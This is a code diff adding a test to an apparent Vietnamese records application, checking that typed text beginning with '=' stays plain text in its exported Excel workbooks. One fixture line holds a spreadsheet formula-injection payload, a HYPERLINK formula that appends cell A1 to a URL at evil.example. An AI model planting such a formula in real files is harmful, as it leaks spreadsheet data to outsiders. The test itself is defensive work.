@@ -149,3 +149,21 @@ def test_report_files_read_back(db: Database, tmp_path: Path) -> None:
     lines = [row for row in sheet.iter_rows(min_row=3, values_only=True)]
     assert [line[1] for line in lines] == [codes["extended"], codes["due_day"], codes["by_post"], codes["overdue"]]
     assert sheet["A2"].value and lines[0][4] == "Nguyễn Văn Đức"
+
+
+@pytest.mark.parametrize("backend", ["sqlite"], indirect=True)
+def test_typed_text_starting_with_equals_stays_text_in_every_workbook(db: Database) -> None:
+    from counter_app.services.list_export import workbook_bytes  # noqa: PLC0415
+    from counter_app.services.queries import DossierFilter, list_dossiers  # noqa: PLC0415
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
+    person = Person(hostile, "079195000124", address="=1+2")
+    intake(db, IntakeRequest(TTHN, person), hostile[:100], at=at("2026-11-20 10:00"))
+    books = {"register": register_workbook(register(db, dt.date(2026, 11, 20), dt.date(2026, 11, 20))),
+             "report": report_workbook(build_report(db, NOVEMBER, AS_OF)),
+             "list": workbook_bytes(list_dossiers(db, DossierFilter()), "DS", "vi", AS_OF)}
+    for name, content in books.items():
+        cells = [cell for sheet in load_workbook(io.BytesIO(content)) for row in sheet.iter_rows() for cell in row]
+        typed = [cell for cell in cells if str(cell.value).startswith(("=1+2", hostile[:30]))]
+        assert typed, name
+        assert all(cell.data_type == "s" for cell in typed), (name, [(c.coordinate, c.data_type) for c in typed])
